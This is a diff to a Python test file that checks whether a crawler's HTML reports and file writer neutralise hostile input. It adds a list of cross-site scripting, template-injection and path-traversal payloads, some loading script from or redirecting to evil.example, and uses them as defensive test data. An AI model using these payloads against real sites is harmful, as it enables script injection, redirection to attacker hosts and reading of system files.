@@ -1,10 +1,12 @@
 """Whatever a site puts into a string stays a string."""
 
+import re
 from dataclasses import fields, is_dataclass, replace
 
 import pytest
 from lxml import html as parser
 
+from crawler.stages.reporting import write_result
 from reports import site_report, summary_report
 from reports.cleaning import clean
 from reports.links import link
@@ -13,14 +15,33 @@ from tests.reports import fixtures
 NASTY = "\"><script>alert(1)</script><img src=x onerror=alert(2)>{{7*7}}</style>'--><svg/onload=x>"
 
 
-def poisoned(value):
+OWN = re.compile(r"https?://|#|\.\./(?:index|shots/)|organisations/[^/]+\.html$")
+# Each in a place of its own: attributes, scripts, styles, templates, comments, addresses, files.
+POISONS = (
+    NASTY,
+    "javascript:alert(1)//",
+    "https://evil.example/\"onmouseover=alert(1) autofocus onfocus='alert(2)' x=\"",
+    "http://evil.example/'><script src=//evil.example/x.js></script>",
+    "</title></textarea></noscript></template><script>alert(1)</script>",
+    "<![CDATA[]]><!--><script>alert(1)</script>-->",
+    "${7*7}<%= 7*7 %>{% raw %}{{ self.__init__ }}",
+    "\u2028</script><svg><style><img src=x onerror=alert(1)>",
+    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+    "<base href=//evil.example/><meta http-equiv=refresh content=0;url=//evil.example>",
+    "<link rel=stylesheet href=//evil.example/x.css><iframe srcdoc='<script>alert(1)</script>'>",
+    "\x00\x1b]8;;https://evil.example\x07\u202egpj.exe\ud800",
+    "../../../../etc/passwd\x00<form action=//evil.example><button autofocus>",
+)
+
+
+def poisoned(value, poison=NASTY):
     """Put a script into every text of a result."""
     if isinstance(value, str) and type(value) is str:
-        return NASTY + value
+        return poison + value
     if isinstance(value, tuple):
-        return tuple(poisoned(each) for each in value)
+        return tuple(poisoned(each, poison) for each in value)
     if is_dataclass(value):
-        changed = {f.name: poisoned(getattr(value, f.name)) for f in fields(value)}
+        changed = {f.name: poisoned(getattr(value, f.name), poison) for f in fields(value)}
         return replace(value, **changed)
     return value
 
@@ -47,6 +68,38 @@ def test_a_script_in_every_string_stays_inert_in_the_summary():
     assert len(tree.xpath("//script")) == 1
     assert not tree.xpath("//img | //iframe | //@onerror | //@onload")
     assert len(tree.xpath("//form")) == 1
+
+
+@pytest.mark.parametrize("poison", POISONS)
+@pytest.mark.parametrize("make", [fixtures.gaps, fixtures.partial, fixtures.blocked])
+def test_every_poison_stays_a_text(make, poison):
+    """Only what the template has is in the page, and links are web addresses or our own files."""
+    plain, result = make(), poisoned(make(), poison)
+    for render in (site_report.render, lambda each: summary_report.render([each])):
+        clean_tree, tree = (parser.fromstring(render(each)) for each in (plain, result))
+        targets = [href for href in tree.xpath("//@href") if href != "data:,"]
+
+        for tag in ("script", "style", "form", "meta", "link", "base", "iframe", "img", "button"):
+            assert len(tree.xpath(f"//{tag}")) == len(clean_tree.xpath(f"//{tag}")), tag
+        assert not tree.xpath("//@*[starts-with(name(), 'on')] | //@srcdoc | //@autofocus")
+        assert all(OWN.match(href) for href in targets), targets
+
+
+@pytest.mark.parametrize(
+    "id_",
+    ["../../etc/passwd", "..", ".", "a/b", "a\\b", "x\x00y", "/etc/x", "~root", "я" * 500, ""],
+)
+def test_no_id_of_the_roster_leads_out_of_the_folder(tmp_path, id_):
+    """Files are named after organisations, and organisations are named by strangers."""
+    result = fixtures.good()
+    named = replace(result, organisation=replace(result.organisation, id=id_))
+    write_result(tmp_path / "out", named)
+    files = [path.relative_to(tmp_path) for path in tmp_path.rglob("*") if path.is_file()]
+
+    assert sorted(path.parts[:2] for path in files) == [
+        ("out", "organisations"),
+        ("out", "results"),
+    ]
 
 
 @pytest.mark.parametrize(
